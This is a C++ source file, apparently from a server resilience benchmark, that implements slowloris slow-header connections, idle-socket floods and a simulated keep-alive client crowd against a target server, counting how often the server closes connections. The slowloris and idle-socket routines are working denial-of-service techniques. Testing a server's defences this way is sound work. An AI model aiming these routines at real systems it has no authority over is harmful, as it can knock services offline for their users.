// Attacks on the server's connections: slow heads, idle sockets, and a crowd
// of ordinary keep-alive clients.
#include <thread>

#include "attacks.hpp"

namespace lizheng::bench {
namespace {

using std::chrono::milliseconds;

constexpr milliseconds kSlowLineEvery{4000};  // slowloris: one header line this often
constexpr milliseconds kWatchSlice{100};

// Waits up to `total` for the server to close `c`; true when it did.
bool ClosedWithin(Connection& c, milliseconds total, const AttackContext& ctx) {
  for (milliseconds waited{0}; waited < total && !ctx.stop.load(); waited += kWatchSlice)
    if (c.PeerClosed(kWatchSlice)) return true;
  return false;
}

// Crowd client i's own source address on loopback: 127.0.1.1, 127.0.1.2, ...
std::string CrowdAddress(int i) {
  return "127.0." + std::to_string(1 + i / 250) + "." + std::to_string(1 + i % 250);
}

}  // namespace

void Slowloris(const AttackContext& ctx, Tally& tally) {
  RunWorkers(ctx.connections, [&](int i) {
    // Staggered, so that the lines arrive spread over the interval.
    std::this_thread::sleep_for(kSlowLineEvery * i / ctx.connections);
    while (!ctx.stop.load()) {
      Connection c = Reopen(ctx, ctx.source, tally);
      if (!c.valid()) return;
      std::string line = "GET /api/v1/health HTTP/1.1\r\nHost: " + ctx.target.host + "\r\n";
      for (int n = 0; !ctx.stop.load(); ++n) {
        if (c.Send(line, ctx.stop, tally.bytes_sent) != SendResult::kSent ||
            ClosedWithin(c, kSlowLineEvery, ctx)) {
          if (!ctx.stop.load()) ++tally.closed_by_server;
          break;
        }
        line = "X-Slow-" + std::to_string(n) + ": " + std::to_string(n) + "\r\n";
      }
      std::this_thread::sleep_for(kWatchSlice);  // then come back, as an attacker would
    }
  });
}

void IdleConnections(const AttackContext& ctx, Tally& tally) {
  RunWorkers(ctx.connections, [&](int) {
    while (!ctx.stop.load()) {
      Connection c = Reopen(ctx, ctx.source, tally);
      if (!c.valid()) return;
      while (!ctx.stop.load())
        if (c.PeerClosed(kWatchSlice)) {
          ++tally.closed_by_server;
          std::this_thread::sleep_for(kWatchSlice);
          break;
        }
    }
  });
}

void KeepAliveCrowd(const AttackContext& ctx, Tally& tally) {
  RunWorkers(ctx.connections, [&](int i) {
    // Ordinary people: each from an address of its own, half of them asking
    // for the health page and half for the public list.
    const std::string source = CrowdAddress(i);
    const std::string request = BuildRequest(
        "GET", i % 2 == 0 ? "/api/v1/health" : "/api/v1/public/requests?limit=20", ctx.target, {});
    Connection c;
    std::vector<double> latencies;
    bool served = false;
    while (!ctx.stop.load()) {
      const Response r = Exchange(c, ctx, source, request, tally, latencies, 0);
      if (r.status == 200 && !served) {
        served = true;
        ++tally.clients_served;
      }
    }
    tally.AddLatencies(latencies);
  });
}

}  // namespace lizheng::bench
